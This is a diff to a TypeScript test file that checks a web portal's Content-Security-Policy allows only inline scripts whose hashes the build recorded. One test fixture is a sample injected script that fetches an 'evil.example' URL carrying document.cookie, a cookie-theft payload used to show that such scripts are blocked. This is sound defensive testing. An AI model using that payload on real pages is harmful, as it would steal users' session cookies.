@@ -1,5 +1,5 @@
 import { createHash } from 'node:crypto'
-import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, utimesSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -8,6 +8,7 @@ import { createMainApp } from './app.ts'
 import { createMailer } from './mailer.ts'
 import { MAILBOX_OFF_MESSAGE } from './routes/dev-mailbox.ts'
 import { STORYBOOK_POLICY } from './page-policy.ts'
+import { SCRIPT_HASHES_FILE } from '../../scripts/script-hashes.mjs'
 
 let app: ReturnType<typeof createMainApp>
 let database: TestDatabase
@@ -231,6 +232,57 @@ describe('main service: what pages may do (docs/decisions/0017)', () => {
       })
     },
   )
+
+  it('allows only the inline scripts the build wrote: not one added to a page after the build', async () => {
+    const injected = 'fetch("https://evil.example/?" + document.cookie)'
+    const withScripts = (...scripts: string[]) =>
+      `<!doctype html><html><head>${scripts.map((script) => `<script>${script}</script>`).join('')}</head></html>`
+    // A build that recorded its pages' scripts (scripts/build.mjs), and one from before it did.
+    const built = mkdtempSync(path.join(tmpdir(), 'portal-csp-built-'))
+    writeFileSync(path.join(built, 'index.html'), withScripts(bootLine, injected))
+    writeFileSync(path.join(built, 'app.html'), withScripts(bootLine, injected))
+    writeFileSync(
+      path.join(built, SCRIPT_HASHES_FILE),
+      JSON.stringify({ pages: { 'index.html': [sha256(bootLine)], 'app.html': [sha256(bootLine)] } }),
+    )
+    const older = mkdtempSync(path.join(tmpdir(), 'portal-csp-older-'))
+    writeFileSync(path.join(older, 'index.html'), withScripts(bootLine))
+    writeFileSync(path.join(older, 'app.html'), withScripts(bootLine))
+    const serve = (distDir: string) =>
+      createMainApp({
+        distDir,
+        storybookDir: distDir,
+        db: database.db,
+        mailer: createMailer({ outbox: async () => {}, log: () => {} }),
+        secret: 'test-secret',
+      })
+    const scriptSources = async (app: ReturnType<typeof createMainApp>, url: string) => {
+      const response = await app.request(url)
+      expect(response.status, url).toBe(200)
+      const policy = response.headers.get('content-security-policy') ?? ''
+      return /script-src ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? []
+    }
+    const fromBuild = serve(built)
+    for (const url of ['/', '/dashboard'])
+      expect(await scriptSources(fromBuild, url), url).toEqual(["'self'", sha256(bootLine)])
+
+    // The older build's pages are hashed as they were when the server started: a script written
+    // into one since (the answer now carries it) is not allowed.
+    const fromOlder = serve(older)
+    writeFileSync(path.join(older, 'index.html'), withScripts(bootLine, injected))
+    expect(await scriptSources(fromOlder, '/')).toEqual(["'self'", sha256(bootLine)])
+
+    // A build while the server runs rewrites the file: its pages' new scripts are allowed.
+    const next = 'import("/assets/main-def456.js")'
+    writeFileSync(path.join(built, 'index.html'), withScripts(bootLine, next))
+    writeFileSync(
+      path.join(built, SCRIPT_HASHES_FILE),
+      JSON.stringify({ pages: { 'index.html': [sha256(bootLine), sha256(next)], 'app.html': [] } }),
+    )
+    utimesSync(path.join(built, SCRIPT_HASHES_FILE), new Date(), new Date(Date.now() + 5000))
+    expect(await scriptSources(fromBuild, '/')).toEqual(["'self'", sha256(bootLine), sha256(next)])
+    expect(await scriptSources(fromBuild, '/dashboard')).toEqual(["'self'"])
+  })
 
   it('names the certification service on the host the page was reached at, and no host that is not one', async () => {
     expect((await policyOf('http://127.0.0.1:7700/'))['connect-src']).toContain('127.0.0.1:7611')
